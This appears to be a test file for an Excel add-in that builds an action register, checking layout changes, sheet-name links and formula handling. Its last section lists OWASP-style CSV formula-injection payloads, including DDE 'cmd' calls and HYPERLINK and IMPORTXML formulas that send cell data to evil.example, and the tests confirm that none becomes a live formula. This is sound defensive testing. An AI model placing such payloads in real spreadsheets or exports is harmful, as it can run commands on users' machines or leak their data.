/** Registers that people moved, renamed, cut and froze; plans on sheets of odd names; hostile texts. */
import { buildWorkbook } from "../../src/excel/buildWorkbook";
import { restoreLast } from "../../src/excel/restoreLast";
import type { Standin } from "../../src/standin/standin";
import { openBytes, openMade, savedWorkbook, smallPlan } from "./openMade";
import { stateOf } from "./workbookState";

const AS_OF = "2026-10-01";
const SHEET = "Action register";
const build = () => buildWorkbook({ asOf: AS_OF, kinds: ["register"] });

function onSheet(name: string, work: (sheet: Excel.Worksheet) => void): Promise<void> {
  return Excel.run(async (context) => {
    work(context.workbook.worksheets.getItem(name));
    await context.sync();
  });
}

/** The table's texts, wherever it lies. */
function register(): Promise<{ readonly address: string; readonly texts: readonly (readonly string[])[] }> {
  return Excel.run(async (context) => {
    const { tables } = context.workbook;
    tables.load("items/name");
    await context.sync();
    const range = (tables.items[0] as Excel.Table).getRange();
    range.load("address,text");
    await context.sync();
    return { address: range.address, texts: range.text };
  });
}

async function column(heading: string): Promise<readonly string[]> {
  const [headings = [], ...rows] = (await register()).texts;
  const index = headings.indexOf(heading);
  return index < 0 ? [] : rows.map((row) => row[index] ?? "");
}

function addAction(standin: Standin): void {
  standin.typeInto("Plan", 3, 5, "Agreed by the board");
  ["'5", "Publish the annual report", "Data Analyst", "31/03/2027", "Amber", "Begun"].forEach((text, at) =>
    standin.typeInto("Plan", 7, at, text),
  );
}

const PROGRESS = ["Agreed by the board", "", "Under way", "Held twice", "Begun"];

test("its headings switched off (Table Design > Header Row): a sentence says so, and it is left as it is", async () => {
  const made = await openMade(smallPlan);
  await build();
  const workbook = await savedWorkbook(made);
  const sheet = workbook.getWorksheet(SHEET);
  const model = sheet?.getTable("ActionRegister")?.table;
  expect(model?.tableRef).toBe("A4:I8");
  Object.assign(model ?? {}, { headerRow: false, ref: "A5", tableRef: "A5:I8", autoFilterRef: undefined });
  sheet?.getRow(4).eachCell((cell) => (cell.value = null));
  const standin = await openBytes(new Uint8Array(await workbook.xlsx.writeBuffer()));
  addAction(standin);
  const before = await stateOf(standin);
  await expect(build()).rejects.toMatchObject({
    code: "RegisterHasNoHeadings",
    message: expect.stringMatching(/"Action register" does not show its headings.*Header Row/),
  });
  expect(await stateOf(standin)).toEqual(before);
});

describe("is brought up to date all the same:", () => {
  const CLEARED = "its rules and lists cleared";

  test.each<[string, (sheet: Excel.Worksheet) => void, string]>([
    ["moved down", (sheet) => sheet.getRange("1:3").insert("Down"), `'${SHEET}'!A7:I12`],
    ["moved to the right", (sheet) => sheet.getRange("A:B").insert("Right"), `'${SHEET}'!C4:K9`],
    ["its title cut off", (sheet) => sheet.getRange("1:2").delete("Up"), `'${SHEET}'!A2:I7`],
    ["its table renamed", (sheet) => (sheet.tables.getItemAt(0).name = "OurActions"), `'${SHEET}'!A4:I9`],
    ["its sheet renamed", (sheet) => (sheet.name = "Our list, 2026"), "'Our list, 2026'!A4:I9"],
    ["frozen elsewhere", (sheet) => sheet.freezePanes.freezeRows(1), `'${SHEET}'!A4:I9`],
    ["rows hidden", (sheet) => (sheet.getRange("5:6").rowHidden = true), `'${SHEET}'!A4:I9`],
    ["a column hidden", (sheet) => (sheet.getRange("H:H").columnHidden = true), `'${SHEET}'!A4:I9`],
    [CLEARED, (sheet) => sheet.getRange().conditionalFormats.clearAll(), `'${SHEET}'!A4:I9`],
  ])("%s", async (what, change, address) => {
    const standin = await openMade(smallPlan);
    await build();
    await onSheet(SHEET, change);
    await openBytes(await standin.save());
    const now = await openBytes(await standin.save());
    addAction(now);
    const before = await stateOf(now);
    const again = await openBytes(await now.save());
    const { refresh } = await build();
    expect(refresh?.added.map(({ ref }) => ref)).toEqual(["5"]);
    expect([refresh?.conflicts, refresh?.kept, refresh?.vanished]).toEqual([[], [], []]);
    expect((await register()).address).toBe(address);
    expect(await column("Progress")).toEqual(PROGRESS);
    const refreshed = await again.save();
    await restoreLast();
    // Colours by word are made again by every refresh, and stay.
    if (what !== CLEARED) expect(await stateOf(again)).toEqual(before);
    await openBytes(refreshed);
    const { taken, added } = (await build()).refresh ?? { taken: null, added: null };
    expect([taken, added]).toEqual([[], []]);
  });

  test("a column was deleted: it is not brought back, unless the summary counts by it", async () => {
    const standin = await openMade(smallPlan);
    await build();
    await onSheet(SHEET, (sheet) => {
      sheet.tables.getItemAt(0).columns.getItem("Progress").delete();
      sheet.tables.getItemAt(0).columns.getItem("RAG").delete();
    });
    addAction(standin);
    const before = await stateOf(standin);
    const again = await openBytes(await standin.save());
    await build();
    expect(await column("Progress")).toEqual([]);
    expect(await column("RAG")).toEqual(["Red", "Amber", "Green", "Green", "Amber"]);
    expect(await column("Action")).toHaveLength(5);
    await restoreLast();
    expect(await stateOf(again)).toEqual(before);
  });

  test("a column was renamed: what stands in it stays, as a column of theirs", async () => {
    const standin = await openMade(smallPlan);
    await build();
    await onSheet(SHEET, (sheet) => {
      sheet.tables.getItemAt(0).columns.getItem("Progress").name = "What we did";
    });
    addAction(standin);
    const before = await stateOf(standin);
    const again = await openBytes(await standin.save());
    await build();
    expect(await column("What we did")).toEqual(["Drafted", "", "Under way", "Held twice", ""]);
    expect(await column("Lead")).toHaveLength(5);
    await restoreLast();
    expect(await stateOf(again)).toEqual(before);
  });
});

test("a plan on a sheet of our name: links lead there, and not to the register", async () => {
  const standin = await openMade((workbook) => {
    smallPlan(workbook);
    const sheet = workbook.getWorksheet("Plan");
    if (sheet) sheet.name = SHEET;
  });
  const linkOf = () => {
    const view = standin.view().sheets.find(({ name }) => name === "Action register (2)");
    return view?.cell(4, 8)?.link;
  };
  await buildWorkbook({ asOf: AS_OF });
  expect(linkOf()).toBe(`#'${SHEET}'!B4`);
  await buildWorkbook({ asOf: AS_OF });
  expect(linkOf()).toBe(`#'${SHEET}'!B4`);
});

test("a sheet of our name that is not ours is left alone, cell for cell", async () => {
  const standin = await openMade((workbook) => {
    smallPlan(workbook);
    workbook.addWorksheet("action REGISTER").getCell("B2").value = "Minutes";
  });
  const { written } = await build();
  expect(written.map(({ name }) => name)).toEqual(["Action register (2)"]);
  const theirs = (await savedWorkbook(standin)).getWorksheet("action REGISTER");
  expect([theirs?.actualRowCount, theirs?.getCell("B2").value]).toEqual([1, "Minutes"]);
});

test.each([
  ["31 characters", "Youth justice improvement plans"],
  ["signs that have to be quoted", "Plan (2026-27) & more!"],
  ["digits alone", "2026"],
  ["the look of a cell", "A1"],
  ["another script", "Cynllun – gweithredu"],
])("a plan on a sheet whose name has %s: links lead there", async (_, name) => {
  const standin = await openMade((workbook) => {
    smallPlan(workbook);
    const sheet = workbook.getWorksheet("Plan");
    if (sheet) sheet.name = name;
  });
  await buildWorkbook({ asOf: AS_OF });
  const view = standin.view().sheets.find((sheet) => sheet.name === SHEET);
  expect(view?.cell(4, 8)?.link).toBe(`#'${name}'!B4`);
  expect(view?.cell(4, 8)?.text).toBe(`${name} B4`);
});

test("formulas and errors of the plan come into the register as what they show", async () => {
  await openMade((workbook) => {
    smallPlan(workbook);
    const sheet = workbook.getWorksheet("Plan");
    if (!sheet) return;
    sheet.getCell("C4").value = { formula: 'CONCATENATE("Head of"," Service")', result: "Head of Service" };
    sheet.getCell("D6").value = { formula: "DATE(2026,12,31)", result: 46387 };
    sheet.getCell("D6").numFmt = "dd/mm/yyyy";
    sheet.getCell("F5").value = { formula: "1/0", result: { error: "#DIV/0!" } };
    sheet.getCell("F7").value = { error: "#N/A" };
  });
  await build();
  expect((await column("Lead"))[0]).toBe("Head of Service");
  expect((await column("Due"))[2]).toBe("31/12/2026");
  expect(await column("Progress")).toEqual(["Drafted", "#DIV/0!", "Under way", "#N/A"]);
  const { refresh } = await build();
  expect([refresh?.taken, refresh?.kept, refresh?.conflicts, refresh?.added]).toEqual([[], [], [], []]);
});

describe("formula injection", () => {
  /** From OWASP's page "CSV Injection", and signs that programs take for one of its six. */
  const HOSTILE = [
    "=1+1+cmd|' /C calc'!A0",
    "+1+1+INJECTED()",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=INJECTED()",
    '=HYPERLINK("https://evil.example/?x="&A1,"INJECTED")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "＝1+1",
    '","=1+1',
    "';=1+1",
  ];

  function hostilePlan(workbook: Parameters<typeof smallPlan>[0]): void {
    const sheet = workbook.addWorksheet("Plan");
    sheet.addRow([HOSTILE[0]]);
    sheet.addRow(["Ref", "Action", "Lead", "Due date", "RAG", "Progress", "=Extra+1"]).font = { bold: true };
    HOSTILE.forEach((text, index) =>
      sheet.addRow([text, `${text} for action ${index}`, text, "July 2026", "Red", text, text]),
    );
  }

  /** Formulas with their texts taken out: what is left is what they compute. */
  const computed = (formula: string) => formula.replace(/"(?:[^"]|"")*"/g, '""');

  test("no text of a plan is a formula, or part of what one computes, on any sheet of ours", async () => {
    const standin = await openMade(hostilePlan);
    const { written } = await buildWorkbook({ asOf: AS_OF });
    const saved = await savedWorkbook(standin);
    let texts = 0;
    for (const { name } of written) {
      saved.getWorksheet(name)?.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.formula !== undefined)
            expect(computed(String(cell.formula))).not.toMatch(/INJECTED|cmd|evil|IMPORTXML|calc'|1\+1/i);
          else if (HOSTILE.some((text) => String(cell.value).includes(text.trim()))) texts++;
        }),
      );
    }
    // The register has each of them in four columns at least.
    expect(texts).toBeGreaterThan(HOSTILE.length * 3);
  });

  test("nor after a refresh that takes them over one by one", async () => {
    const standin = await openMade(smallPlan);
    await build();
    HOSTILE.slice(0, 4).forEach((text, index) => standin.typeInto("Plan", 3 + index, 5, `'${text}`));
    await build();
    const saved = (await savedWorkbook(standin)).getWorksheet(SHEET);
    const progress = [5, 6, 7, 8].map((row) => saved?.getCell(row, 8));
    expect(progress.map((cell) => [cell?.value, cell?.formula])).toEqual(
      HOSTILE.slice(0, 4).map((text) => [text, undefined]),
    );
  });
});
